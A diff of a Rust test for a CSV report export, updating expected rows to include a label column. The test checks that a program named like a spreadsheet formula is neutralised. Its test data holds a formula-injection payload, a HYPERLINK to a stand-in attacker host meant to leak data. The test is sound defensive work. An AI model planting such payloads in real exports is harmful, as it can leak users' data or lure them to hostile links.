@@ -35,10 +35,10 @@ async fn a_program_named_like_a_formula_is_exported_as_text(app: App) {
     let csv = send(&app, "GET", &format!("/programs/{program}/report.csv"), Some(&sponsor), None).await;
     assert_eq!(csv.status, StatusCode::OK, "{}", csv.html);
     let line = csv.html.lines().find(|l| l.starts_with("name,")).expect("the name row");
-    assert_eq!(line, r#"name,"'=HYPERLINK(""http://evil.test/?leak"",""Open me"")""#);
+    assert_eq!(line, r#"name,"'=HYPERLINK(""http://evil.test/?leak"",""Open me"")",Program"#);
     assert!(!csv.html.contains(",=") && !csv.html.contains(",\"="), "no cell starts a formula: {}", csv.html);
     // The figures stay numbers, and the JSON report keeps the name as it was typed.
-    assert!(csv.html.contains("\npairs,0\n"), "{}", csv.html);
+    assert!(csv.html.contains("\npairs,0,Pairs\n"), "{}", csv.html);
     let token = app.login("s@lab.test").await;
     let (status, report) = app.call("GET", &format!("/api/v1/programs/{program}/report"), Some(&token), None).await;
     assert_eq!((status, report["name"].as_str()), (StatusCode::OK, Some(name)), "{report}");
